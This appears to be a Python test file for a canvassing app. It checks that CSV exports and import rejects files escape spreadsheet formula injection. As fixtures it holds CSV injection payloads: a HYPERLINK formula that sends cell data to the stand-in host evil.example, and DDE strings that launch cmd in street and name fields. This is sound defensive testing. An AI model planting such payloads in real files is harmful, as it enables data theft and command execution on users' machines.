"""No CSV we write runs as a spreadsheet formula (issue 15, security): an address, name, note or answer that
starts with =, +, -, @, a tab or a carriage return goes out with an apostrophe before it (OWASP), in the
web export, in ``flask export-contacts`` and in an import's rejects file. Plain numbers stay numbers."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from fieldops.domain.spreadsheets import safe_cell
from fieldops.extensions import db
from fieldops.models import Block, Contact, Door, Person

NOTE = '=HYPERLINK("http://evil.example/?"&A2,"Click for the agenda")'
STREET = "-2+3+cmd|' /C calc'!A0"
FIRST = "@SUM(1+1)*cmd|' /C calc'!A0"
LAST = "+Virtanen"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+358 40 123", "'+358 40 123"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Mannerheimintie 5", "Mannerheimintie 5"), ("", ""),
    ("-24.94", "-24.94"), ("+1.5e3", "+1.5e3"), (-24.94, -24.94), (None, None), ("a=b", "a=b"),
])
def test_the_one_rule(value, written):
    assert safe_cell(value) == written


def formula_contact(world) -> str:
    door = db.session.scalar(select(Door).join(Block, Block.id == Door.block_id)
                             .where(Block.turf_id == world.turf_a1.id).order_by(Door.id))
    door.street = STREET
    person = Person(door_id=door.id, first_name=FIRST, last_name=LAST)
    db.session.add(person)
    db.session.flush()
    contact_id = str(uuid.uuid4())
    db.session.add(Contact(id=contact_id, office_id=world.office_a.id, door_id=door.id, person_id=person.id,
                           volunteer_id=world.users.volunteer_a1.id, turf_id=world.turf_a1.id,
                           canvass_id=world.canvass_north.id, outcome="talked", answers={"support": 4}, note=NOTE,
                           lat=60.1005, lon=-24.9, recorded_at=datetime.now(timezone.utc) - timedelta(hours=2)))
    db.session.commit()
    return contact_id


def assert_escaped(rows: list[dict], contact_id: str) -> None:
    [row] = [r for r in rows if r["contact_id"] == contact_id]
    assert row["note"] == "'" + NOTE
    assert row["address"].startswith("'" + STREET)
    assert row["person"] == f"'{FIRST} {LAST}"
    assert row["answers"] == "support=4" and row["outcome"] == "talked"
    assert row["lon"] == "-24.9"  # a number is not a formula


def test_the_web_export_escapes_formulas(client, auth, world):
    contact_id = formula_contact(world)
    auth.login("organizer.a@test.example")
    response = client.get(f"/offices/{world.office_a.id}/contacts.csv")
    assert response.status_code == 200
    assert_escaped(list(csv.DictReader(io.StringIO(response.get_data(as_text=True)))), contact_id)
    auth.login("lead.north@test.example")
    response = client.get(f"/regions/{world.north.id}/contacts.csv")
    if response.status_code == 200:  # the region's export, where the region page offers one
        assert_escaped(list(csv.DictReader(io.StringIO(response.get_data(as_text=True)))), contact_id)


def test_flask_export_contacts_escapes_formulas(runner, world, tmp_path):
    contact_id = formula_contact(world)
    output = tmp_path / "contacts.csv"
    result = runner.invoke(args=["export-contacts", "--office", "Alpha", "-o", str(output)])
    assert result.exit_code == 0, result.output
    with output.open(newline="", encoding="utf-8") as handle:
        assert_escaped(list(csv.DictReader(handle)), contact_id)


def test_the_rejects_file_escapes_formulas(runner, world, tmp_path):
    source = tmp_path / "voters.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "street", "house_number", "lat", "lon", "first_name", "last_name"])
        writer.writerow(["V1", STREET, "1", "10.5", "-20.5", FIRST, LAST])   # outside every block
        writer.writerow(["V2", "=1+1", "2", "", "", "\t=cmd", "Plain"])       # no coordinates
    rejects = tmp_path / "rejects.csv"
    result = runner.invoke(args=["import-doors", str(source), "--office", "Alpha", "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    with rejects.open(newline="", encoding="utf-8") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    assert rows["V1"]["street"] == "'" + STREET and rows["V1"]["first_name"] == "'" + FIRST
    assert rows["V1"]["last_name"] == "'" + LAST and rows["V1"]["lon"] == "-20.5"
    assert rows["V2"]["street"] == "'=1+1" and rows["V2"]["first_name"] == "'\t=cmd"
    assert rows["V2"]["last_name"] == "Plain"


def test_a_block_files_rejects_escape_formulas(runner, tmp_path):
    """A rejected block's own fields go into the rejects file as the layer had them: as text, never as formulas."""
    import json
    square = [[[-93.2, 44.9], [-93.2, 45.0], [-93.3, 45.0], [-93.3, 44.9], [-93.2, 44.9]]]
    layer = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"GEOID": "27001", "NAME": "West"},
         "geometry": {"type": "Polygon", "coordinates": square}},
        {"type": "Feature", "properties": {"GEOID": "27003", "NAME": NOTE}, "geometry": None}]}
    source = tmp_path / "blocks.geojson"
    source.write_text(json.dumps(layer), encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = runner.invoke(args=["import-blocks", str(source), "--office", "Formulas", "--region", "Nowhere",
                                 "--id-field", "GEOID", "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    with rejects.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["NAME"] == "'" + NOTE and row["reason"] == "no geometry" and row["id"] == "27003"
